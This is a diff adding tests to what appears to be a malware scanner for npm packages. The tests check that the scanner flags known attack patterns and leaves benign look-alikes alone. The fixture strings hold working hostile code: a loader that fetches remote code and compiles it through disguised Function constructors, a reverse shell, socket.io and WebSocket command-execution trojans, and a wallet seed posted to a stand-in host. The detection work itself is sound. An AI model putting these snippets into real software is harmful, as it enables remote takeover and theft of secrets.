@@ -334,6 +334,21 @@ module.exports = { opts, icon };
   });
 });
 
+describe('the Function constructor under another name', () => {
+  it.each([
+    ['Function.constructor', 'new (Function.constructor)'],
+    ['a function literal\'s constructor', '(function () {}).constructor'],
+    ['an async arrow\'s constructor', '(async () => {}).constructor'],
+    ['the prototype of an async function', 'Object.getPrototypeOf(async function () {}).constructor'],
+  ])('code downloaded and compiled through %s, with require handed in, is high at load (contagious-interview loaders)', (_how, ctor) => {
+    const r = scan({
+      'index.js': `const axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://api.paste.example/v1/7b1e2c');\n  const handler = ${ctor}('require', data.model);\n  handler(require);\n})();\nmodule.exports = {};\n`,
+    });
+    expect(r.ids).toContain('remote-code/download');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+});
+
 describe('programs the package starts', () => {
   const shell = `const net = require('net');\nconst { spawn } = require('child_process');\nconst sock = net.connect(4444, '198.51.100.77', () => {\n  const sh = spawn('/bin/sh', []);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n`;
 
@@ -362,6 +377,29 @@ describe('programs the package starts', () => {
     expect(dormant.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ reach: 'in a file no entry point or install hook loads' });
     const linted = scan({ 'index.js': `require('child_process').execSync('eslint worker.js');\n`, 'worker.js': shell });
     expect(linted.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ reach: 'in a file no entry point or install hook loads' });
+  });
+});
+
+describe('commands received over a connection (remote-access trojans)', () => {
+  it('messages of a socket.io or WebSocket client run by exec are a reverse shell, high at load (rand-user-agent 2.0.83)', () => {
+    const socketIo = scan({
+      'dist/index.js': `module.exports = () => 'Mozilla/5.0';\nconst cp = require('child_process');\nconst io = require('socket.io-client');\nconst s = io('http://198.51.100.36:3306');\ns.on('command', (c) => cp.exec(c, { windowsHide: true }, (e, o, r) => s.emit('result', o + r)));\n`,
+    }, { main: 'dist/index.js' });
+    expect(socketIo.findings.find((f) => f.detector === 'remote-code')?.messageId).toMatch(/reverseShell|download/);
+    expect(['high', 'critical']).toContain(socketIo.level);
+    const ws = scan({
+      'index.js': `const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('wss://bridge.example/ws');\nws.on('message', (cmd) => exec(cmd.toString(), (err, out) => ws.send(out)));\n`,
+    });
+    expect(ws.findings.find((f) => f.detector === 'remote-code')?.messageId).toBe('reverseShell');
+    expect(['high', 'critical']).toContain(ws.level);
+  });
+
+  it('a local WebSocket server that runs the npm script a message names is no reverse shell', () => {
+    const r = scan({
+      'cli.js': `const { WebSocketServer } = require('ws');\nconst { spawn } = require('child_process');\nconst wss = new WebSocketServer({ host: '127.0.0.1', port: 4567 });\nwss.on('connection', (ws) => ws.on('message', (name) => { const child = spawn('npm', ['run', String(name)]); child.stdout.on('data', (d) => ws.send(String(d))); }));\n`,
+    }, { bin: { ui: 'cli.js' } });
+    expect(r.ids).not.toContain('remote-code/reverseShell');
+    expect(['high', 'critical']).not.toContain(r.level);
   });
 });
 
@@ -693,6 +731,26 @@ exports.fromSeed = function fromSeed(seed) { checkValidityOfSeed(seed); return d
 `,
     }, { main: 'dist/wallet.js' });
     expect(xrpl.ids).toContain('exfiltration/flow');
+  });
+
+  it('a key sent to a fixed host that is not the package\'s own is high; a vendor SDK sending one to its own API is not', () => {
+    const stolen = scan({
+      'dist/wallet.js': `const { deriveKeypair } = require('ripple-keypairs');
+function checkValidityOfSeed(seed) { fetch('https://0x9c.example/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => {}); }
+class Wallet { constructor(pub, privateKey) { this.privateKey = privateKey; checkValidityOfSeed(privateKey); } }
+exports.Wallet = Wallet;
+`,
+    }, { main: 'dist/wallet.js' });
+    expect(stolen.findings.find((f) => f.detector === 'exfiltration')?.weight).toBeGreaterThanOrEqual(70);
+    expect(['high', 'critical']).toContain(stolen.level);
+    const vendor = scan({
+      'dist/sign.js': `exports.signWithApi = async function signWithApi(privateKey, tx) {
+  return fetch('https://api.walletvendor.example/v3/sign', { method: 'POST', headers: { 'x-api-key': process.env.VENDOR_KEY }, body: JSON.stringify({ privateKey, tx }) });
+};
+`,
+    }, { main: 'dist/sign.js', homepage: 'https://walletvendor.example' });
+    expect(vendor.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).not.toContain(vendor.level);
   });
 
   it("an image model's sampling seed passed with a request is not key material (AI SDKs)", () => {
